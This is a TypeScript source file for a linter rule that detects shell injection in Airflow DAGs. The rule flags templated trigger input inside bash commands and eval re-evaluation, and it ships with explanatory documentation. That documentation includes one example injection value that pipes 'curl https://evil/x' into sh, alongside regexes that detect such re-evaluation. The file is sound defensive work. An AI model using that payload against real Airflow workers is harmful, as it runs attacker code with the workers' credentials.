import type { SyntaxNode } from 'tree-sitter';
import type { RuleContext } from '../../src/engine/context';
import { defineRule } from '../../src/engine/rule';
import { callArgs, stringValue } from '../../src/engine/python';
import { classifyJinja, jinjaExpressions, jinjaSourceRange, restrictedParams, triggerInputInTemplate, type JinjaClass } from '../../src/airflow/jinja';
import { commandParts } from '../../src/airflow/strings';
import { type ShellScript } from '../../src/airflow/shell';
import { type Trust } from '../../src/airflow/trust';
import type { Severity } from '../../src/report';
import { reportOnce, shellScriptMatchers } from './_util';

const SEVERITY: Partial<Record<Trust, Severity>> = { user: 'high', xcom: 'medium', config: 'info' };


// conf > params > xcom (and inlet events) > config
const score = (k: JinjaClass): number => (k.trust === 'user' ? (k.viaParams ? 4 : 5) : k.trust === 'xcom' ? 3 : k.trust === 'config' ? 2 : 0);

/** Report the worst Jinja expression of each literal of the scripts that `anchor` (operator call or function) runs. */
/**
 * `env={"CMD": "{{ dag_run.conf['cmd'] }}"}` is the fix for templated input — unless the script evaluates the variable
 * again: `eval "$CMD"`, `sh -c "$CMD"`, `$(…$CMD…)`, or `$CMD` where a command goes.
 */
function reevaluation(name: string): RegExp {
  const v = String.raw`\$\{?${name}\b`;
  return new RegExp(
    String.raw`\beval\b[^\n;|&]*${v}|\b(?:ba|z|k|da)?sh\s+-c\s+["']?${v}|\$\(\s*["']?${v}|(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)["']?${v}["']?(?:\s|$)`,
    'm',
  );
}

/** Where a script literal of this file evaluates the variable again (the line to fix), if it is written here. */
function reevaluatedAt(scripts: ShellScript[], name: string, ctx: RuleContext): { startIndex: number; endIndex: number } | undefined {
  const re = reevaluation(name);
  for (const s of scripts) {
    for (const lit of commandParts(s.node).literals) {
      const m = re.exec(ctx.file.text.slice(lit.node.startIndex, lit.node.endIndex));
      if (m) return { startIndex: lit.node.startIndex + m.index, endIndex: lit.node.startIndex + m.index + m[0].length };
    }
  }
  return undefined;
}

/** Template values passed through `env=` that the operator's script evaluates again (see `reevaluation`). */
function envReevaluated(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext, restricted: Set<string>): void {
  if (anchor.type !== 'call') return;
  // BashOperator `env`, KubernetesPodOperator `env_vars` (dict form), DockerOperator `environment`
  const kws = callArgs(anchor).keywords;
  const env = kws.get('env') ?? kws.get('env_vars') ?? kws.get('environment');
  if (!env || env.type !== 'dictionary') return;
  const text = scripts.map((s) => commandParts(s.node).literals.map((l) => l.text).join(' ')).join('\n');
  if (!/\$/.test(text)) return;
  for (const pair of env.namedChildren) {
    if (pair.type !== 'pair') continue;
    const name = stringValue(pair.childForFieldName('key'));
    const value = pair.childForFieldName('value');
    const v = value ? stringValue(value) : null;
    if (!name || !value || v === null || !/^[A-Za-z_]\w*$/.test(name) || !reevaluation(name).test(text)) continue;
    for (const e of jinjaExpressions(v)) {
      const k = classifyJinja(e.expr, restricted);
      const sc = score(k);
      if (sc < 4) continue;
      const expr = e.expr.length > 60 ? e.expr.slice(0, 57) + '…' : e.expr;
      reportOnce(ctx, value, () =>
        ctx.report(value, { label: `\`env\` variable ${name}, which the script evaluates again,`, expr, why: k.why }, {
          severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high'),
          key: `env ${name} ${e.expr}`,
          // at the `eval` (the line to fix) when the script is written in this file
          at: reevaluatedAt(scripts, name, ctx),
        }),
      );
      break;
    }
  }
}

function check(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext): void {
  let restricted: Set<string> | null = null;
  envReevaluated(anchor, scripts, ctx, (restricted ??= restrictedParams(anchor, ctx)));
  for (const s of scripts) {
    for (const lit of commandParts(s.node).literals) {
      const exprs = jinjaExpressions(lit.text);
      if (!exprs.length) continue;
      restricted ??= restrictedParams(anchor, ctx);
      let best = 0;
      let first: { expr: string; why: string; severity: Severity } | null = null;
      for (const e of exprs) {
        const k = classifyJinja(e.expr, restricted);
        const sc = score(k);
        if (sc > best) {
          best = sc;
          first = { expr: e.expr, why: k.why, severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high') };
        }
      }
      if (!first) continue;
      // a command split into arguments (no shell): only `dag_run.conf` (params may be validated), at medium
      if (s.argv && best < 5) continue;
      const f = s.argv ? { ...first, severity: 'medium' as Severity } : first;
      const expr = f.expr.length > 60 ? f.expr.slice(0, 57) + '…' : f.expr;
      reportOnce(ctx, lit.node, () =>
        ctx.report(lit.node, { label: s.label, expr, why: f.why }, {
          severity: f.severity,
          key: `${s.label} ${f.expr}`,
          at: jinjaSourceRange(lit.node, f.expr, ctx.file.text),
          ...(s.argv ? { message: 'argv' } : {}),
        }),
      );
    }
  }
}

export default defineRule({
  meta: {
    id: 'DG203',
    name: 'templated-user-input-in-shell',
    category: 'shell-injection',
    severity: 'high',
    message: '{label} renders `{{ {expr} }}` into a shell command: {why}',
    messages: {
      argv: '{label} renders `{{ {expr} }}` into the container\'s command line, which is split at spaces into arguments, so the value can add options and arguments: {why}',
      eval: 'the shell script `{name}` runs `eval` on `{var}`, which holds {what}: the shell parses it again, so `;`, `$(…)` and backquotes in it run as commands',
    },
    aliases: [],
    docs: {
      what:
        'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint) — a string `command` without a shell is split at spaces into the container\'s arguments, where `dag_run.conf` values can still add options: *medium* — and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell (or the inline code of `python -c`, `perl -e`, `node -e`); and `.sh` files shipped with the DAGs, the templates of `bash_command="x.sh "` (there `dag_run.conf` *high*, `params` *low*: whether the DAG declares the param validated is not visible from the template).\n\n' +
        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *info*: shown, below the default `--fail-on` (editable in the UI, but Airflow\'s security model trusts whoever may edit Variables and Connections; a templated Variable in a command is the recommended pattern, not a finding to fix). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported at the line of the script that evaluates it again (on the `env` value when the script is not written in the file; also KubernetesPodOperator `env_vars` and DockerOperator `environment` dicts). In `.sh` scripts shipped with the DAGs, also `eval` of a script argument or a variable bound to one (`NAME_GLOB="${3:-*.csv}"` … `eval "find … -name $NAME_GLOB"`: *medium*): the `bash_command` that calls the script passes it, often from the trigger.',
      why:
        'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
      example:
        '```python\nBashOperator(\n    task_id="load",\n    bash_command="python load.py --table \'{{ dag_run.conf[\'table\'] }}\'",\n)\n```',
      useInstead:
        '```python\nBashOperator(\n    task_id="load",\n    bash_command=\'python load.py --table "$TABLE"\',  # the shell does not re-parse "$TABLE"\n    env={"TABLE": "{{ dag_run.conf[\'table\'] }}"},\n    append_env=True,\n)\n# or validate it: params={"table": Param("users", enum=["users", "orders"])}\n```',
    },
  },
  ...shellScriptMatchers(check),
  // `.sh` files shipped with the DAGs are the templates of `bash_command="scripts/run.sh "`: rendered as Jinja
  onDataFile(ctx) {
    if (ctx.file.dataKind !== 'shell') return;
    const name = ctx.file.path.split('/').pop()!;
    // `eval` of a script argument (`NAME_GLOB="${3:-*.csv}"` … `eval "find … -name $NAME_GLOB"`): the caller's
    // `bash_command` passes it, often from the trigger
    for (const e of evalOfArguments(ctx.file.text)) {
      ctx.reportRange(e.start, e.end, { name, var: e.var, what: e.what }, { message: 'eval', severity: 'medium' });
    }
    for (const t of triggerInputInTemplate(ctx.file.text)) {
      // a param: whether the DAG declares it validated is not visible from the template: low
      ctx.reportRange(t.start, t.end, { label: `the shell script \`${name}\` (a \`bash_command\` template)`, expr: t.expr, why: t.why }, { key: `${name} ${t.full}`, ...(t.viaParams ? { severity: 'low' as const } : {}) });
    }
  },
});

/** Variables of a shell script bound to its arguments: `NAME="${3:-default}"`, `NAME=$1`, `read -r NAME <<< "$2"`. */
const ARG_ASSIGN = /^[ \t]*(?:local[ \t]+|readonly[ \t]+|declare[ \t]+(?:-\w+[ \t]+)?)?([A-Za-z_]\w*)=["']?\$\{?([1-9@*])(?::?[-=][^}]*)?\}?/gm;
const EVAL = /^[^#\n]*?\beval\b([^\n]*)/gm;

/** `eval` lines of a shell script that expand a script argument or a variable bound to one. */
function evalOfArguments(text: string): { start: number; end: number; var: string; what: string }[] {
  if (!/\beval\b/.test(text)) return [];
  const args = new Map<string, string>();
  for (const m of text.matchAll(ARG_ASSIGN)) args.set(m[1], m[2]);
  const out: { start: number; end: number; var: string; what: string }[] = [];
  for (const m of text.matchAll(EVAL)) {
    for (const v of m[1].matchAll(/\$\{?([A-Za-z_]\w*|[1-9@*])\b/g)) {
      const pos = /^[1-9@*]$/.test(v[1]) ? v[1] : args.get(v[1]);
      if (!pos) continue;
      out.push({ start: m.index!, end: m.index! + m[0].length, var: `$${v[1]}`, what: `the script's argument ${pos === '@' || pos === '*' ? 'list' : `$${pos}`}` });
      break;
    }
    if (out.length >= 20) break;
  }
  return out;
}
